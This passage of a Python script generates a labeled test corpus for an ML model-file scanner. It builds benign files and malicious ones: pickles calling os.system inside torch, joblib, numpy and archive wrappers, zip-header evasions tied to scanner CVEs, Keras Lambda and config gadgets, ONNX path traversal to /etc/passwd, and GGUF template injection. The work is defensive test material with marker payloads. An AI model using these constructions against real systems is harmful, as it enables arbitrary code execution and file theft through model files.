        "torch-zip-renamed-folder", "-", "folder tiny_resnet/ instead of archive/ (torch.save names it after the file)")
    add("malicious/torch/pytorch_model.bin", make_zip(payload_torch_members(TOUCH)), "malicious", "pytorch-zip", "torch-zip-extension",
        "CVE-2025-10155", "torch zip payload under the Hugging Face .bin name; marker payload")
    add("malicious/torch/last.ckpt", make_zip(payload_torch_members(ECHO)), "malicious", "pytorch-zip", "torch-zip-extension", "CVE-2025-10155",
        "torch zip payload named .ckpt")
    add("malicious/torch/model_no_extension", make_zip(payload_torch_members(ECHO)), "malicious", "pytorch-zip", "torch-zip-extension",
        "CVE-2025-1889", "torch zip payload with no file extension")
    seed()
    real = zip_members(torch_bytes(torch.nn.Linear(4, 3).state_dict()))
    extra = ("archive/config.p", payload_pickle(2, ECHO))
    add("malicious/torch/extra_pickle_member.pt", make_zip(real[:1] + [extra] + real[1:]), "malicious", "pytorch-zip",
        "torch-zip-nonstandard-pickle-name", ref,
        "benign data.pkl plus archive/config.p holding the payload (torch.load(pickle_file='config.p') reads it); scan every member by content")
    dup = make_zip(real + [("archive/data.pkl", wrap_real_pickle(dict(real)["archive/data.pkl"], ops_system(ECHO)))])
    add("malicious/torch/duplicate_data_pkl.pt", dup, "malicious", "pytorch-zip", "zip-duplicate-names", "-",
        "two members named archive/data.pkl: benign first, payload second; every entry of the central directory must be scanned")
    # Nested state-dict payload kept valid for torch: the payload in a non-.pkl member inside the archive.
    renamed = [(n.replace("data.pkl", "data.bin") if n.endswith("data.pkl") else n, d) for n, d in payload_torch_members(ECHO)]
    add("malicious/torch/pickle_member_renamed.pt", make_zip(renamed), "malicious", "pytorch-zip", "torch-zip-nonstandard-pickle-name", ref,
        "the payload pickle is archive/data.bin (no .pkl anywhere): the member must be recognised as a pickle by content")


def find_record(buf, signature, name_len_at, name_at, name):
    """Offset of the local or central-directory record whose file name is `name`."""
    pos = 0
    while True:
        pos = buf.find(signature, pos)
        assert pos >= 0, name
        n = struct.unpack_from("<H", buf, pos + name_len_at)[0]
        if bytes(buf[pos + name_at:pos + name_at + n]) == name:
            return pos
        pos += 4


def patch_zip(data, name, local_name=None, flag_bits=0, bad_crc=False):
    """Edits one member in place (PKWARE APPNOTE 4.3.7 local header: flags @6, crc @14, name length @26, name @30;
    4.3.12 central header: flags @8, crc @16, name length @28, name @46): the local header name only
    (CVE-2025-1944 class), general-purpose flag bits (CVE-2025-1945 class), or the CRC-32 in both headers."""
    buf = bytearray(data)
    enc = name.encode()
    local = find_record(buf, b"PK\x03\x04", 26, 30, enc)
    central = find_record(buf, b"PK\x01\x02", 28, 46, enc)
    for base, flag_at, crc_at in ((local, 6, 14), (central, 8, 16)):
        struct.pack_into("<H", buf, base + flag_at, struct.unpack_from("<H", buf, base + flag_at)[0] | flag_bits)
        if bad_crc:
            struct.pack_into("<I", buf, base + crc_at, struct.unpack_from("<I", buf, base + crc_at)[0] ^ 0xDEADBEEF)
    if local_name is not None:
        new = local_name.encode()
        assert len(new) == len(enc)
        buf[local + 30:local + 30 + len(new)] = new
    return bytes(buf)


def mal_zip_tricks():
    """Zip structure tricks that made picklescan crash or skip while torch/miniz still loaded the model."""
    members = payload_torch_members(ECHO)
    data = make_zip(members)
    add("malicious/zip/local_name_mismatch.pt", patch_zip(data, "archive/data.pkl", local_name="archive/data.pkx"), "flagged", "pytorch-zip",
        "zip-local-central-mismatch", "CVE-2025-1944",
        "local header says archive/data.pkx, central directory says archive/data.pkl: Python zipfile raises BadZipFile, torch.load (miniz) loads it")
    add("malicious/zip/encrypted_flag_stored.pt", patch_zip(data, "archive/data.pkl", flag_bits=0x0001), "flagged", "pytorch-zip",
        "zip-flag-bits", "CVE-2025-1945", "general-purpose bit 0 (encrypted) set on a STORED, unencrypted data.pkl: Python zipfile raises (picklescan crashed); the pickle bytes are plain")
    add("malicious/zip/bad_crc.pt", patch_zip(data, "archive/data.pkl", bad_crc=True), "flagged", "pytorch-zip", "zip-bad-crc", "CVE-2025-10156",
        "data.pkl CRC-32 wrong in both headers: Python zipfile raises on read, torch.load (miniz) does not check and loads it")
    for name, ext in (("notes.txt", "txt"), ("config.json", "json"), ("weights", "none")):
        add(f"malicious/zip/pickle_as_{ext}.zip", make_zip([("README.md", b"# tiny model\n"), (name, payload_pickle(2, TOUCH if ext == "txt" else ECHO))]),
            "malicious", "zip", "zip-member-disguised", "CVE-2025-1889", f"plain zip whose member {name} is a pickle calling os.system: sniff members by content")
    inner = make_zip(payload_torch_members(TOUCH))
    add("malicious/zip/zip_in_zip.zip", make_zip([("models/model.pt", inner), ("README.md", b"nested\n")], zipfile.ZIP_DEFLATED), "malicious", "zip",
        "nested-archive", "-", "deflated zip holding a torch zip whose data.pkl carries the payload; marker payload")
    corrupt_first = make_zip([("a.pkl", b"\x80\x02}q\x00(X\x05\x00\x00\x00e"), ("b.pkl", payload_pickle(2, ECHO))])
    add("malicious/zip/first_member_corrupt.zip", corrupt_first, "malicious", "zip", "corrupt-then-payload", "-",
        "first member is a truncated pickle, second is the payload: a walker that gives up on the first error fails open")
    ok_members = make_zip([("a.pkl", pickle.dumps({"ok": 1}, protocol=2)), ("b.pkl", payload_pickle(2, ECHO))], zipfile.ZIP_DEFLATED)
    buf = bytearray(ok_members)
    first_data = 30 + len("a.pkl")
    buf[first_data:first_data + 4] = b"\xff\xff\xff\xff"  # break a.pkl's deflate stream
    add("malicious/zip/first_member_bad_deflate.zip", bytes(buf), "malicious", "zip", "corrupt-then-payload", "-",
        "a.pkl has a corrupt deflate stream, b.pkl is the payload: keep walking after a member fails")


def seven_zip(name, data):
    """7z archive via p7zip (7z a), with timestamps stripped so the output is reproducible."""
    if not shutil.which("7z"):
        raise SystemExit("p7zip-full is required for the 7z case (apt-get install -y p7zip-full)")
    with tempfile.TemporaryDirectory() as tmp:
        src = Path(tmp) / name
        src.write_bytes(data)
        os.utime(src, (TAR_MTIME, TAR_MTIME))
        out = Path(tmp) / "out.7z"
        subprocess.run(["7z", "a", "-t7z", "-mx=5", "-mtm=off", "-mtc=off", "-mta=off", "-mhe=off", str(out), name],
                       cwd=tmp, check=True, stdout=subprocess.DEVNULL)
        return out.read_bytes()


def mal_wrappers():
    """Compression and archive wrappers around payload pickles, and legacy torch layouts."""
    pk = payload_pickle(2, ECHO)
    broken = Asm(2).call("os", "system", TOUCH).raw(b"\x00garbage").bytes()
    add("malicious/wrapped/nullifai_7z.bin", seven_zip("data.pkl", broken), "flagged", "7z", "7z-wrapped-broken-pickle", "ReversingLabs nullifAI (2025)",
        "7z holding a pickle that calls os.system and then breaks; a scanner that cannot open 7z must say so, not pass it; marker payload")
    add("malicious/wrapped/model.pkl.7z", seven_zip("model.pkl", pk), "flagged", "7z", "7z-wrapped-pickle", "ReversingLabs nullifAI (2025)",
        "7z (LZMA) holding a plain payload pickle")
    add("malicious/wrapped/model_pkl.tar", make_tar([("model/model.pkl", pk), ("model/README.md", b"tiny\n")]), "malicious", "tar",
        "tar-wrapped-pickle", "-", "ustar archive with a payload pickle member")
    add("malicious/wrapped/model.pkl.gz", gzip_bytes(pk), "malicious", "gzip", "gzip-wrapped-pickle", "-", "gzip of a payload pickle")
    add("malicious/wrapped/model.pkl.bz2", bz2.compress(payload_pickle(2, TOUCH), 9), "malicious", "bzip2", "bz2-wrapped-pickle", "-",
        "bzip2 of a payload pickle; marker payload")
    add("malicious/wrapped/model.pkl.xz", lzma.compress(pk, format=lzma.FORMAT_XZ), "malicious", "xz", "xz-wrapped-pickle", "-", "xz of a payload pickle")
    add("malicious/wrapped/model.tar.gz", gzip_bytes(make_tar([("pytorch_model.bin", make_zip(payload_torch_members(ECHO)))])), "malicious", "gzip",
        "tgz-wrapped-torch-zip", "-", "gzip > tar > torch zip > data.pkl payload (three container levels)")
    add("malicious/wrapped/raw_pickle.bin", payload_pickle(2, TOUCH), "malicious", "pickle", "raw-pickle-extension", "CVE-2025-10155",
        "a raw pickle (not a torch zip) named .bin; marker payload")
    add("malicious/wrapped/raw_pickle.safetensors", payload_pickle(4, ECHO), "malicious", "pickle", "raw-pickle-extension", "-",
        "a raw pickle named .safetensors: trust content, not the extension")


def legacy_split(data):
    """Splits a legacy torch.save file into its five pickles and the raw storage tail (genops only)."""
    stream = io.BytesIO(data)
    parts = []
    for _ in range(5):
        start = stream.tell()
        for _ in pickletools.genops(stream):
            pass
        parts.append(data[start:stream.tell()])
    return parts, data[stream.tell():]


def mal_torch_legacy():
    """Legacy (pre-1.6) torch files with the payload in a later pickle, and the older tar layout."""
    seed()
    legacy = torch_bytes(torch.nn.Linear(4, 3).state_dict(), _use_new_zipfile_serialization=False)
    parts, tail = legacy_split(legacy)
    sys_info = Asm(2).raw(b"}").mark().str("protocol_version").int(1001).str("little_endian").bool(True).str("hook").raw(ops_system(TOUCH)).raw(b"u").stop().bytes()
    check_pickle(sys_info)
    add("malicious/torch/legacy_payload_in_sys_info.pt", b"".join(parts[:2]) + sys_info + b"".join(parts[3:]) + tail, "malicious", "pytorch-legacy",
        "legacy-later-pickle", "-", "third pickle (sys_info dict) carries os.system; the main object pickle is real; marker payload")
    keys = Asm(2).call("os", "system", ECHO).stop().bytes()
    add("malicious/torch/legacy_payload_in_storage_keys.pth", b"".join(parts[:4]) + keys + tail, "malicious", "pytorch-legacy",
        "legacy-later-pickle", "-", "fifth pickle (storage keys list) replaced by an os.system call; scanners that read only the first pickles miss it")
    tar_members = [("sys_info", pickle.dumps({"protocol_version": 1000, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)),
                   ("storages", pickle.dumps(0, protocol=2)), ("tensors", pickle.dumps(0, protocol=2)),
                   ("pickle", Asm(2).raw(b"}").str("w").raw(ops_system(ECHO)).raw(b"s").stop().bytes())]
    add("malicious/torch/legacy_tar_format.tar", make_tar(tar_members), "malicious", "pytorch-legacy-tar", "legacy-tar", "-",
        "torch < 0.4 tar layout (sys_info, storages, tensors, pickle members; torch.serialization legacy_load); payload in 'pickle'")


def mal_joblib_numpy():
    """joblib and numpy files whose pickles carry a payload among real arrays."""
    rng = np.random.RandomState(0)
    slot = "MODELGATE_PAYLOAD_SLOT"
    obj = {"coef": rng.rand(8, 3), "intercept": np.zeros(3), "classes": np.array([0, 1, 2]), "hook": slot}
    plain = splice_placeholder(joblib_bytes(obj, protocol=2), slot, ops_system(TOUCH))
    add("malicious/joblib/payload_among_arrays.joblib", plain, "malicious", "joblib", "joblib-payload", "-",
        "joblib.dump (protocol 2) of real arrays with a dict value replaced by os.system(...); raw array bytes stay inline; marker payload")
    compressors = {
        "zlib": lambda d: zlib.compress(d, 3),
        "gzip": lambda d: gzip.compress(d, 3, mtime=0),
        "bz2": lambda d: bz2.compress(d, 3),
        "xz": lambda d: lzma.compress(d, format=lzma.FORMAT_XZ),
        "lzma": lambda d: lzma.compress(d, format=lzma.FORMAT_ALONE),
        "lz4": lambda d: lz4.frame.compress(d),
    }
    plain_echo = splice_placeholder(joblib_bytes(obj, protocol=2), slot, ops_system(ECHO))
    for name, comp in compressors.items():
        add(f"malicious/joblib/payload_{name}.joblib", comp(plain_echo), "malicious", "joblib", "joblib-compressed-payload", "-",
            f"the same payload joblib compressed as joblib's '{name}' compressor writes it")
    arr = np.array([1, slot, 3], dtype=object)
    nested = splice_placeholder(joblib_bytes({"labels": arr, "w": rng.rand(4)}, protocol=2), slot, ops_system(ECHO))
    add("malicious/joblib/object_array_nested_pickle.joblib", nested, "malicious", "joblib", "joblib-object-array", "-",
        "object-dtype array: joblib writes the array as a nested pickle inside the NumpyArrayWrapper; the payload is an element of it")
    npy = splice_placeholder(npy_bytes(np.array([slot, 2], dtype=object), allow_pickle=True), slot, ops_system(TOUCH, proto=3))
    add("malicious/numpy/object_payload.npy", npy, "malicious", "numpy", "npy-object-payload", "-",
        "np.save of an object array; the protocol-3 pickle body has an element replaced by os.system(...); marker payload")
    npz = make_zip([("weights.npy", npy_bytes(rng.rand(3, 3))),
                    ("labels.npy", splice_placeholder(npy_bytes(np.array([slot], dtype=object), allow_pickle=True), slot, ops_system(ECHO, proto=3)))])
    add("malicious/numpy/object_payload.npz", npz, "malicious", "numpy-npz", "npz-object-payload", "-",
        "npz whose second member is an object .npy with the payload")


# ===============================================================================================================
# MALICIOUS: other formats
# ===============================================================================================================
def mal_keras():
    """Keras Lambda bytecode and config module references (CVE-2024-3660, CVE-2025-1550, CVE-2025-9906/9905)."""
    printing = lambda_code("f = lambda x: (print('modelgate-corpus'), x)[1]")
    cfg = keras3_sequential([keras3_lambda(func_dump_b64(printing))])
    add("malicious/keras/lambda_print.keras", keras_zip(cfg, []), "flagged", "keras", "keras-lambda", "CVE-2024-3660",
        "Keras 3 __lambda__ with marshal bytecode that calls print: arbitrary bytecode runs at load (safe_mode off)")
    os_lambda = lambda_code(f"f = lambda x: (__import__('os').system('{TOUCH}'), x)[1]")
    rng = np.random.RandomState(0)
    h5 = keras2_h5([keras2_dense_layer("dense", 4, 4), keras2_lambda(func_dump_b64(os_lambda))],
                   {"dense": {"kernel": rng.rand(4, 4).astype(np.float32), "bias": np.zeros(4, np.float32)}})
    add("malicious/keras/lambda_os_system.h5", h5, "malicious", "hdf5", "keras-lambda", "CVE-2025-9905",
        "Keras 2 Lambda in model_config; bytecode co_names include __import__ and system; legacy .h5 ignores safe_mode; marker payload")
    act = {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}
    dense = keras3_dense("dense", 4)
    dense["config"]["activation"] = act
    add("malicious/keras/config_module_os_system.keras", keras_zip(keras3_sequential([dense]), ["dense"]), "malicious", "keras",
        "keras-config-module", "CVE-2025-1550", "Dense activation deserialised from {module: os, class_name: function, config: system}")
    dense = keras3_dense("dense", 4)
    dense["config"]["activation"] = {"module": "builtins", "class_name": "function", "config": "eval", "registered_name": "function"}
    add("malicious/keras/config_builtins_eval.keras", keras_zip(keras3_sequential([dense]), ["dense"]), "malicious", "keras",
        "keras-config-module", "CVE-2025-1550", "activation resolved to builtins.eval")
    lam = keras3_lambda(None)
    lam["config"]["function"] = {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization", "registered_name": "function"}
    add("malicious/keras/enable_unsafe_deserialization.keras", keras_zip(keras3_sequential([lam, keras3_lambda(func_dump_b64(printing))]), []),
        "flagged", "keras", "keras-safe-mode-off", "CVE-2025-9906",
        "first Lambda calls keras.config.enable_unsafe_deserialization, the second carries bytecode that now loads")


def onnx_external(location, name):
    model, blobs = onnx_mlp(name)
    to_external(model, lambda _: location, blobs)
    return model.SerializeToString()


def mal_onnx():
    """ONNX external-data path traversal and custom-domain operators."""
    add("malicious/onnx/external_data_traversal.onnx", onnx_external("../../../etc/passwd", "traversal"), "flagged", "onnx",
        "onnx-external-traversal", "CVE-2022-25882", "initializer external_data location ../../../etc/passwd (reads outside the model folder)")
    add("malicious/onnx/external_data_absolute.onnx", onnx_external("/etc/passwd", "absolute"), "flagged", "onnx", "onnx-external-traversal",
        "CVE-2022-25882", "external_data location is the absolute path /etc/passwd")
    add("malicious/onnx/external_data_nested_traversal.onnx", onnx_external("subdir/../../../../etc/passwd", "nested"), "flagged", "onnx",
        "onnx-external-traversal", "CVE-2024-27318", "subdir/../../.. survives an lstrip-only sanitiser")
    model, _ = onnx_mlp("custom")
    model.graph.node.append(helper.make_node("ShellExec", ["y"], ["z"], domain="com.example.evil", cmd=ECHO))
    model.opset_import.append(helper.make_opsetid("com.example.evil", 1))
    add("malicious/onnx/custom_domain_op.onnx", model.SerializeToString(), "flagged", "onnx", "onnx-custom-op", "-",
        "node ShellExec in domain com.example.evil: runs only with a custom-op library loaded (native code); outside the standard opsets")


def mal_tensorflow():
    """Hand-encoded saved_model.pb files with dangerous ops (PyFunc, ReadFile/WriteFile, unknown custom op)."""
    nodes = tf_benign_nodes() + [tf_node("py", "PyFunc", ["x"], {"token": attr_s("pyfunc_0"), "Tin": attr_type_list(1), "Tout": attr_type_list(1)})]
    add("malicious/tensorflow/pyfunc/saved_model.pb", saved_model(nodes), "malicious", "tensorflow-savedmodel", "tf-pyfunc",
        "https://research.jfrog.com/model-threats/tflow-malops", "PyFunc node: calls a Python function registered in the loading process")
    fn = [tf_node("path", "Const", attrs={"dtype": attr_type(7)}), tf_node("content", "ReadFile", ["path"]),
          tf_node("dst", "Const", attrs={"dtype": attr_type(7)}), tf_node("write", "WriteFile", ["dst", "content"])]
    add("malicious/tensorflow/read_write_file/saved_model.pb", saved_model(tf_benign_nodes(), [("__inference_serve_42", fn)]), "malicious",
        "tensorflow-savedmodel", "tf-file-io", "https://research.jfrog.com/model-threats/tflow-malops",
        "ReadFile and WriteFile inside a FunctionDefLibrary function body (tf.function), not in the top-level graph")
    nodes = tf_benign_nodes() + [tf_node("run", "ShellExecute", ["x"], {"command": attr_s(ECHO)})]
    add("malicious/tensorflow/custom_op/saved_model.pb", saved_model(nodes), "flagged", "tensorflow-savedmodel", "tf-custom-op", "-",
        "op ShellExecute is not a TensorFlow op: needs a custom op library (native code) to load")


def mal_gguf():
    """GGUF chat templates with jinja2 SSTI (CVE-2024-34359) and an |attr/concatenation evasion."""
    add("malicious/gguf/ssti_chat_template.gguf", gguf_bytes(SSTI_TEMPLATE, "llama-drama"), "malicious", "gguf", "gguf-template-ssti", "CVE-2024-34359",
        "tokenizer.chat_template walks ().__class__.__base__.__subclasses__() to __builtins__['__import__']('os').popen(...); marker payload")
    add("malicious/gguf/ssti_attr_concat.gguf", gguf_bytes(SSTI_ATTR_TEMPLATE, "llama-drama-attr"), "malicious", "gguf", "gguf-template-ssti-evasion",
        "CVE-2024-34359", "same gadget with every dunder hidden behind |attr('__cl'~'ass__') string concatenation")


def mal_safetensors():
    """safetensors headers that lie about offsets or length."""
    t = st_tensors()
    add("malicious/safetensors/overlapping_offsets.safetensors", safetensors_bytes(t, {"format": "pt"}, {"position_ids": [0, 32], "linear.weight": [16, 40]}),
        "flagged", "safetensors", "safetensors-overlap", "-", "two tensors' data_offsets overlap (and no longer tile the data section)")
    add("malicious/safetensors/out_of_bounds_offsets.safetensors", safetensors_bytes(t, {"format": "pt"}, {"mask": [60, 4096]}),
        "flagged", "safetensors", "safetensors-oob", "-", "data_offsets end far past the end of the file")
    good = safetensors_bytes(t, {"format": "pt"})
    add("malicious/safetensors/header_past_eof.safetensors", struct.pack("<Q", 1 << 40) + good[8:], "error", "safetensors",
        "safetensors-header-length", "-", "header length field says 1 TiB; the file is a few hundred bytes")


# ===============================================================================================================
def sanity_check_benign():
    """Loads every `clean` file with the library that wrote it (never a malicious or code file)."""
    import warnings
    warnings.filterwarnings("ignore")
    for rel, expect, fmt, *_ in ROWS:
        if expect != "clean":
            continue
        path = OUT / rel
        if fmt in ("pytorch-zip", "pytorch-legacy"):
            torch.load(path)
        elif fmt == "joblib":
            joblib.load(path)
        elif fmt == "pickle":
            with open(path, "rb") as f:
                pickle.load(f)
        elif fmt in ("numpy", "numpy-npz"):
            loaded = np.load(path, allow_pickle=rel.endswith("object_plain.npy"))
            if fmt == "numpy-npz":
                [loaded[k] for k in loaded.files]
        elif fmt == "onnx":
            onnx.checker.check_model(str(path))
        elif fmt == "hdf5":
            with h5py.File(path, "r") as f:
                f.visit(lambda _: None)
        elif fmt == "keras":
            with zipfile.ZipFile(path) as z:
                json.loads(z.read("config.json"))
                h5py.File(io.BytesIO(z.read("model.weights.h5")), "r").close()
        elif fmt == "safetensors":
            data = path.read_bytes()
            n = struct.unpack_from("<Q", data)[0]
            header = json.loads(data[8:8 + n])
            end = max(v["data_offsets"][1] for k, v in header.items() if k != "__metadata__")
            assert 8 + n + end == len(data)
        elif fmt == "gguf":
            assert path.read_bytes()[:4] == b"GGUF"
        elif fmt in ("tensorflow-savedmodel", "raw"):
            pass
        else:
            raise AssertionError(f"no sanity check for {fmt}")
    onnx.checker.check_model(str(OUT / "benign/onnx/mlp_external.onnx"))
    onnx.load(str(OUT / "benign/onnx/mlp_external.onnx"))  # resolves mlp_external.onnx.data


def write_manifest():
    lines = ["path\texpect\tformat\ttechnique\treference\tnote"]
    lines += ["\t".join(r) for r in sorted(ROWS)]
    (OUT / "manifest.tsv").write_text("\n".join(lines) + "\n", encoding="utf-8")


def main():
    if os.environ.get("PYTHONHASHSEED") != "0":
        # TorchScript writes class attributes in set order; fix the hash seed so the output is reproducible.
        os.execve(sys.executable, [sys.executable] + sys.argv, {**os.environ, "PYTHONHASHSEED": "0"})
    OUT.mkdir(parents=True, exist_ok=True)
    for child in OUT.iterdir():  # wipe everything but the hand-written README.md and .gitattributes
        if child.name in ("README.md", ".gitattributes"):
            continue
        shutil.rmtree(child) if child.is_dir() else child.unlink()
    for step in (benign_torch, benign_sklearn, benign_pandas, benign_numpy, benign_joblib, benign_onnx, benign_hdf5,
                 benign_safetensors, benign_gguf, benign_keras, benign_tensorflow, code_files,
                 mal_os_system_protocols, mal_pickle_variants, mal_memo_and_computed, mal_resolvers, mal_structure, mal_callables,
                 mal_torch_zip, mal_zip_tricks, mal_wrappers, mal_torch_legacy, mal_joblib_numpy,
                 mal_keras, mal_onnx, mal_tensorflow, mal_gguf, mal_safetensors):
        step()
    write_manifest()
    sanity_check_benign()
    total = sum(p.stat().st_size for p in OUT.rglob("*") if p.is_file())
    counts = {}
    for r in ROWS:
        counts[r[1]] = counts.get(r[1], 0) + 1
    print(f"{len(ROWS)} files, {total} bytes: {counts}")
    assert total <= 4 * 1024 * 1024, "corpus must stay under 4 MB"


if __name__ == "__main__":
    main()
